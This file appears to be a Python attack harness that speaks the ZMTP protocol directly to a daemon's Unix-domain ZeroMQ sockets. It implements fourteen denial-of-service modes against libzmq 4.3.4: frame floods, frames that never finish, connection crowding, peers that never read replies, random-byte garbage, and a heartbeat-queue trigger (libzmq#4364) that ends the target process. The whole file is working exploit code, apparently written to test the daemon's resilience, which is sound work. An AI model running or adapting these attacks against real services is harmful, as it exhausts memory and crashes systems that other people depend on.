"""Peers that mean ill, byte by byte: python3 attack.py KIND ENDPOINT SECONDS, for a socket in the file system, or for `all` the folder of
the daemon's sockets. For `deaf` on submit.sock there is a fourth argument, the digest of a large document.

Each kind is one way in which libzmq 4.3.4 by itself takes memory without a bound, or ends its process. The last line that is printed
says how often a connection was made anew, and how much was sent.
"""
import json
import os
import socket
import struct
import sys
import threading
import time

KIND, PATH, SECONDS = sys.argv[1], sys.argv[2].removeprefix("ipc://"), float(sys.argv[3])
END = time.monotonic() + SECONDS
count = {"connections": 0, "bytes": 0}


def command(name, body):
    body = bytes([len(name)]) + name + body
    return bytes([4, len(body)]) + body


def frame(body, more=True):
    flags = 1 if more else 0
    if len(body) < 256:
        return bytes([flags, len(body)]) + body
    return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body


def connect(kind=b"DEALER", path=PATH):
    """A connection on which the handshake is done: the greeting, and READY (ZMTP 3.1 without security)."""
    peer = socket.socket(socket.AF_UNIX)
    peer.settimeout(2)
    try:
        peer.connect(path)
        peer.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32))
        peer.sendall(command(b"READY", b"\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind))
    except OSError:
        peer.close()
        raise
    count["connections"] += 1
    return peer


def flood(parts, kind=b"DEALER"):
    """Sends the first part and then the others for ever, on one connection after the other."""
    first, rest = parts
    while time.monotonic() < END:
        try:
            peer = connect(kind)
        except OSError:
            time.sleep(0.005)
            continue
        try:
            peer.sendall(first)
            while time.monotonic() < END:
                count["bytes"] += peer.send(rest() if callable(rest) else rest)
        except OSError:
            time.sleep(0.005)
        finally:
            peer.close()


def hold():
    """Thousands of connections, each with the beginning of a message."""
    peers = []
    while time.monotonic() < END:
        try:
            peer = connect()
            peer.sendall(frame(b"h" * 32) + b"\x02" + struct.pack(">Q", 60_000) + b"z" * 50_000)
            count["bytes"] += 50_000
            peers.append(peer)
        except OSError:
            time.sleep(0.005)
        if len(peers) > 2000:
            for peer in peers[:1000]:
                peer.close()
            del peers[:1000]


def endless():
    """A message of three large frames, of which the last does not end; then nothing, while the connection lasts."""
    while time.monotonic() < END:
        try:
            peer = connect()
            for size in (32, 15 << 20, 15 << 20):
                peer.sendall(b"\x03" + struct.pack(">Q", size))
                for _ in range(0, size, 1 << 16):
                    part = bytes(min(size, 1 << 16))
                    peer.sendall(part)
                    count["bytes"] += len(part)
        except OSError:
            peer.close()


def crowd():
    """Five thousand connections that greet, and stay."""
    peers = []
    while time.monotonic() < END:
        if len(peers) == 5000:
            time.sleep(0.05)
            continue
        try:
            peers.append(connect(b"SUB" if PATH.endswith("updates.sock") else b"DEALER"))
        except OSError:
            time.sleep(0.001)


# What the largest frame of each socket may take, in bytes.
SOCKETS = {
    "submit.sock": 16 << 20,
    "query.sock": 64 << 10,
    "updates.sock": 4096,
    "workers/jobs.sock": 16 << 20,
    "workers/batches.sock": 32 << 20,
}


def unfinished(path, size):
    """Forty connections to one socket, each with a frame that lacks its last byte; again whenever they are ended."""
    kind = b"SUB" if path.endswith("updates.sock") else b"DEALER"
    left = {}
    while time.monotonic() < END:
        is_idle = True
        while len(left) < 40:
            try:
                peer = connect(kind, path)
                peer.sendall(b"\x02" + struct.pack(">Q", size))
            except OSError:
                break
            peer.setblocking(False)
            left[peer] = size - 1
        for peer, rest in list(left.items()):
            if rest == 0:
                continue
            try:
                sent = peer.send(bytes(min(rest, 1 << 16)))
            except BlockingIOError:
                continue
            except OSError:
                peer.close()
                del left[peer]
                continue
            is_idle = False
            left[peer] = rest - sent
            count["bytes"] += sent
        if is_idle:
            time.sleep(0.01)


def come_again():
    """Sixty connections, each with a frame of 16 MB that lacks its last byte, which end after two seconds and come again."""

    def one():
        while time.monotonic() < END:
            try:
                peer = connect()
            except OSError:
                time.sleep(0.01)
                continue
            begun = time.monotonic()
            try:
                peer.sendall(b"\x02" + struct.pack(">Q", 16_000_000))
                for _ in range(16_000_000 // 50_000 - 1):
                    peer.sendall(bytes(50_000))
                    count["bytes"] += 50_000
                peer.sendall(bytes(49_999))
                time.sleep(max(0, min(begun + 2, END) - time.monotonic()))
            except OSError:
                time.sleep(0.01)
            peer.close()

    parts = [threading.Thread(target=one) for _ in range(60)]
    for part in parts:
        part.start()
    for part in parts:
        part.join()


def everywhere():
    """All sockets at once."""
    parts = [threading.Thread(target=unfinished, args=(f"{PATH}/{name}", size)) for name, size in SOCKETS.items()]
    for part in parts:
        part.start()
    for part in parts:
        part.join()


def deaf():
    """Three hundred peers that ask for large answers again and again, and read none."""
    if PATH.endswith("query.sock"):
        kind, body = 64, {"prefixes": [""], "request": 1}
    else:
        kind, body = 22, {"digest": sys.argv[4], "request": 1}
    body = json.dumps(body).encode()
    question = frame(b"CRNT\x01" + bytes([kind]) + bytes(26)) + frame(body, False)
    peers = []
    while time.monotonic() < END:
        while len(peers) < 300:
            try:
                peer = connect()
            except OSError:
                break
            peer.setblocking(False)
            peers.append(peer)
        for peer in list(peers):
            try:
                count["bytes"] += peer.send(question)
            except BlockingIOError:
                continue
            except OSError:
                peer.close()
                peers.remove(peer)
        time.sleep(0.05)


def rubbish():
    """Bytes that are not even a greeting."""
    while time.monotonic() < END:
        peer = socket.socket(socket.AF_UNIX)
        try:
            peer.connect(PATH)
            count["connections"] += 1
            peer.sendall(b"G" + os.urandom(10_000))
        except OSError:
            time.sleep(0.001)
        peer.close()


def heartbeats():
    """A heartbeat behind more messages than a queue takes, and then the end: libzmq#4364."""
    while time.monotonic() < END:
        try:
            peer = connect()
            ping = command(b"PING", struct.pack(">H", 10) + b"x")
            peer.sendall(frame(b"abc", False) * 3000 + ping + frame(b"abc", False) * 3)
            count["bytes"] += 15_000
            peer.close()
        except OSError:
            time.sleep(0.005)


def leave():
    """Whole messages, and the end: libzmq delivers them long after their peer has left."""
    header = b"CRNT\x01\x60" + bytes(26)
    body = b'{"request":1}' + b" " * 60_000
    while time.monotonic() < END:
        try:
            peer = connect()
            for _ in range(20):
                peer.sendall(frame(header) + frame(body, False))
                count["bytes"] += len(body)
            peer.close()
        except OSError:
            time.sleep(0.001)


kinds = {
    "frames": lambda: flood((b"", frame(b"x" * 60_000) * 4)),
    "empty-frames": lambda: flood((b"", frame(b"") * 20_000)),
    "small-frames": lambda: flood((b"", frame(b"y" * 34) * 2000)),
    # Within the limits of a frame, and of their number.
    "endless": endless,
    "slow": lambda: flood((frame(b"h" * 32) + b"\x02" + struct.pack(">Q", 60_000), lambda: b"z")),
    "hold": hold,
    "subscriptions": lambda: flood((b"", lambda: frame(b"\x01" + os.urandom(2000), False)), b"SUB"),
    "heartbeats": heartbeats,
    "rubbish": rubbish,
    "crowd": crowd,
    "leave": leave,
    "again": come_again,
    "deaf": deaf,
    "all": everywhere,
}
threads = [threading.Thread(target=kinds[KIND]) for _ in range(4 if KIND in ("frames", "slow") else 1)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(f"{KIND}: {count['connections']} connections, {count['bytes']} bytes")
